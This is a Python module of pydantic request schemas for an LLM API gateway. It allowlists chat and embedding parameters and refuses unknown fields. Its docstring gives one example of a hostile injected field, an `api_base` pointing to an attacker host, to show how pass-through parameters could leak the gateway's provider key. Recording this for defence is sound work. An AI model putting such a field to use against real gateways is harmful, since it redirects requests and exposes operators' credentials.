"""The request bodies the gateway accepts: an explicit allowlist, validated before anything runs.

A field that is not declared here is refused with a 400 naming it (`extra="forbid"`), and only
the declared model parameters are sent on to a provider (`FORWARDED_CHAT_PARAMS`). Why so
strict: a gateway that passes unknown fields through lets any key holder set the provider's own
options. Through LiteLLM, `{"api_base": "https://attacker.example"}` sends the request, with the
provider key the gateway holds, wherever the caller says, and `api_key`, `extra_headers`,
`custom_llm_provider`, `mock_response`, `metadata` or callbacks change who is called, with what
credentials, or what is logged. Where to send a request and with which key is the operator's
choice, made in the models file (src/kit/gateway/config.py), never the caller's.

Accepted chat parameters (OpenAI's names and meanings):
    sampling     temperature, top_p, n (1 only), seed, stop, presence_penalty, frequency_penalty,
                 logit_bias
    length       max_tokens or max_completion_tokens (one of them; capped by the gateway)
    output       response_format, logprobs, top_logprobs
    tools        tools, tool_choice, parallel_tool_calls
    reasoning    reasoning_effort
    streaming    stream, stream_options (include_usage)
    attribution  user
Media in messages: text, images (`image_url`), audio (`input_audio`) and files (`file`). A
remote `http(s)` image or file URL is refused unless every deployment of the model is marked
`remote_media_urls: true` in the models file, because LiteLLM downloads such URLs itself (for
Anthropic, Gemini, Bedrock, Ollama) from the gateway's own network: send media inline as a
`data:` URL instead.
"""

from __future__ import annotations

from typing import Annotated, Any, Literal

from pydantic import BaseModel, ConfigDict, Field, StringConstraints

# The model parameters a provider receives: every declared field except the envelope.
FORWARDED_CHAT_PARAMS = frozenset(
    {
        "temperature",
        "top_p",
        "n",
        "seed",
        "stop",
        "presence_penalty",
        "frequency_penalty",
        "logit_bias",
        "max_tokens",
        "max_completion_tokens",
        "response_format",
        "logprobs",
        "top_logprobs",
        "tools",
        "tool_choice",
        "parallel_tool_calls",
        "reasoning_effort",
        "user",
    }
)


class _Strict(BaseModel):
    model_config = ConfigDict(extra="forbid")


# --- Message content parts -------------------------------------------------------------------


class TextPart(_Strict):
    type: Literal["text"]
    text: str


class ImageUrl(_Strict):
    url: str = Field(description="A data: URL (inline), or https:// where the model allows it.")
    detail: Literal["auto", "low", "high"] | None = None


class ImagePart(_Strict):
    type: Literal["image_url"]
    image_url: ImageUrl


class InputAudio(_Strict):
    data: str = Field(description="Base64-encoded audio.")
    format: Literal["wav", "mp3"]


class AudioPart(_Strict):
    type: Literal["input_audio"]
    input_audio: InputAudio


class FileRef(_Strict):
    file_data: str | None = Field(None, description="The file inline, as a data: URL.")
    file_id: str | None = Field(None, description="An id of a file uploaded to the provider.")
    filename: str | None = None


class FilePart(_Strict):
    type: Literal["file"]
    file: FileRef


ContentPart = Annotated[TextPart | ImagePart | AudioPart | FilePart, Field(discriminator="type")]


class ChatMessageIn(BaseModel):
    # The OpenAI SDKs send back an assistant message as they received it, with `refusal`,
    # `annotations`, `audio` and `function_call` (often null): accepted, so that works.
    model_config = ConfigDict(extra="forbid")

    role: Literal["system", "developer", "user", "assistant", "tool", "function"]
    content: str | list[ContentPart] | None = None
    name: str | None = None
    tool_calls: list[dict[str, Any]] | None = None
    tool_call_id: str | None = None
    refusal: str | None = None
    annotations: list[dict[str, Any]] | None = None
    audio: dict[str, Any] | None = None
    function_call: dict[str, Any] | None = None


class StreamOptions(_Strict):
    include_usage: bool = False


class ChatCompletionRequest(_Strict):
    model: str | None = Field(None, description="A model alias; the gateway's default if absent.")
    messages: list[ChatMessageIn] = Field(min_length=1)
    stream: bool = False
    stream_options: StreamOptions | None = None

    temperature: float | None = Field(None, ge=0, le=2)
    top_p: float | None = Field(None, gt=0, le=1)
    n: int | None = Field(None, ge=1, le=1, description="The gateway returns one choice.")
    seed: int | None = Field(None, ge=-(2**63), lt=2**63)
    stop: (
        Annotated[str, StringConstraints(max_length=256)]
        | Annotated[list[Annotated[str, StringConstraints(max_length=256)]], Field(max_length=4)]
        | None
    ) = None
    presence_penalty: float | None = Field(None, ge=-2, le=2)
    frequency_penalty: float | None = Field(None, ge=-2, le=2)
    logit_bias: dict[str, Annotated[int, Field(ge=-100, le=100)]] | None = Field(
        None, max_length=300
    )
    max_tokens: int | None = Field(None, ge=1)
    max_completion_tokens: int | None = Field(None, ge=1)
    response_format: dict[str, Any] | None = None
    logprobs: bool | None = None
    top_logprobs: int | None = Field(None, ge=0, le=20)
    tools: list[dict[str, Any]] | None = Field(None, max_length=128)
    tool_choice: str | dict[str, Any] | None = None
    parallel_tool_calls: bool | None = None
    reasoning_effort: Literal["minimal", "low", "medium", "high"] | None = None
    user: str | None = Field(None, max_length=256)

    def requested_tokens(self) -> int | None:
        """The completion length the caller asked for, whichever of the two names it used."""
        return self.max_tokens or self.max_completion_tokens


class EmbeddingRequest(_Strict):
    model: str | None = None
    input: str | list[str] = Field(description="One text or a list of texts (batched).")
    # The OpenAI SDK asks for base64 unless told otherwise (smaller on the wire); it decodes it.
    encoding_format: Literal["float", "base64"] | None = None
    user: str | None = Field(None, max_length=256)

    def texts(self) -> list[str]:
        return [self.input] if isinstance(self.input, str) else list(self.input)
